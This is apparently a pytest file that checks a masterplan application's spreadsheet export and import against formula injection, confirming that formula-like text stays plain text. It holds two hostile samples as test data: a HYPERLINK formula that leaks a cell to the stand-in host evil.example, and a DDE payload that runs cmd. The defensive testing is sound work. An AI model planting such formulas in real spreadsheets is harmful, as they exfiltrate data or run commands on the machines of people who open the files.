"""Masterplan text that starts like a formula: the workbook holds it as plain text, never a live formula,
and importing the workbook (or a copy that went through a CSV) gives back exactly the same text."""

from io import BytesIO

from openpyxl import load_workbook
from sqlalchemy import select

from app.extensions import db
from app.masterplan import analysis, programs
from app.masterplan.models import Program, SwotItem
from tests.masterplan_exchange.conftest import export_xlsx, job_id, logged_in, upload, workbook_bytes

LINK = '=HYPERLINK("http://evil.example/?leak="&B3,"Lihat dokumen")'
DDE = "@SUM(1+1)*cmd|' /C calc'!A0"
FULL_WIDTH = "\uff0b62 812 3456 7890"  # a full-width plus sign, as an IME types it
MINUS = "-30% waktu tunggu layanan"


def _hostile_texts(city) -> None:
    """A program, its description and partner, and a SWOT line whose text starts like a formula."""
    with city.inside():
        programs.create_program(
            city.masterplan_id,
            {
                "code": "PLP-99",
                "name": LINK,
                "description": DDE,
                "sub_dimension_code": "GOV.1",
                "program_class": "INFOSTRUKTUR",
                "horizon": "PENDEK",
                "partners": [{"name": FULL_WIDTH, "sector": "BISNIS"}],
                "status": "planned",
            },
            actor=city.actor,
        )
        analysis.create_swot_item(
            city.masterplan_id, {"dimension_code": "GOV", "quadrant": "W", "text": MINUS}, actor=city.actor
        )
        db.session.commit()


def _cells(workbook, sheet: str, first_column: str) -> list:
    """The cells of the row whose first column holds ``first_column``."""
    return next(row for row in workbook[sheet].iter_rows() if row[0].value == first_column)


def _stored(city, masterplan_id) -> tuple:
    with city.inside():
        program = db.session.scalar(
            select(Program).where(Program.masterplan_id == masterplan_id, Program.code == "PLP-99")
        )
        swot = db.session.scalars(select(SwotItem.text).where(SwotItem.masterplan_id == masterplan_id)).all()
        return program.name, program.description, MINUS in swot


def test_the_exported_workbook_holds_formula_like_text_as_plain_text(client, city):
    _hostile_texts(city)
    logged_in(client, city)
    workbook = load_workbook(BytesIO(export_xlsx(client, city)))

    program = _cells(workbook, "Program", "PLP-99")
    assert [(c.value, c.data_type) for c in program[1:3]] == [(LINK, "s"), (DDE, "s")]
    partner = _cells(workbook, "Mitra", "PLP-99")
    assert (partner[1].value, partner[1].data_type) == (FULL_WIDTH, "s")
    swot = next(row for row in workbook["SWOT"].iter_rows() if row[3].value == MINUS)
    assert swot[3].data_type == "s"
    assert not [c.coordinate for ws in workbook for row in ws.iter_rows() for c in row if c.data_type == "f"]


def test_an_export_with_such_text_imports_back_unchanged(client, city):
    _hostile_texts(city)
    logged_in(client, city)
    exported = export_xlsx(client, city)

    empty = city.new_draft("9.0")
    run, _path = city.job(job_id(upload(client, city, exported, empty)))
    assert run.status == "succeeded", run.error
    assert _stored(city, empty) == (LINK, DDE, True)
    assert city.counts(empty) == city.counts(city.masterplan_id)


def test_the_apostrophe_a_csv_export_adds_does_not_reach_the_data(client, city):
    """A CSV export guards such text with a leading apostrophe; opened in Excel and saved as a workbook,
    the apostrophe is part of the cell. The import takes it off again."""
    _hostile_texts(city)
    logged_in(client, city)
    workbook = load_workbook(BytesIO(export_xlsx(client, city)))
    program = _cells(workbook, "Program", "PLP-99")
    program[1].value, program[2].value = "'" + LINK, "'" + DDE

    run, _path = city.job(job_id(upload(client, city, workbook_bytes(workbook))))
    assert run.status == "succeeded", run.error
    assert "0 rows added, 0 changed" in run.message  # the same text as the masterplan holds
    assert _stored(city, city.masterplan_id) == (LINK, DDE, True)


def test_the_report_of_problems_quotes_such_text_as_plain_text(client, city):
    logged_in(client, city)
    workbook = load_workbook(BytesIO(export_xlsx(client, city)))
    program = _cells(workbook, "Program", "PLP-01")
    # Typed as text (as Excel keeps '=...): no dimension has this code, and the reason quotes it first.
    program[3].value = LINK
    program[3].data_type = "s"

    run, report_path = city.job(job_id(upload(client, city, workbook_bytes(workbook))))
    assert run.status == "failed"
    report = load_workbook(BytesIO(report_path.read_bytes())).active
    (reason,) = [row[4] for row in report.iter_rows(min_row=2) if row[1].value == program[0].row]
    assert reason.value.startswith(LINK + " is not in the list")
    assert reason.data_type == "s"
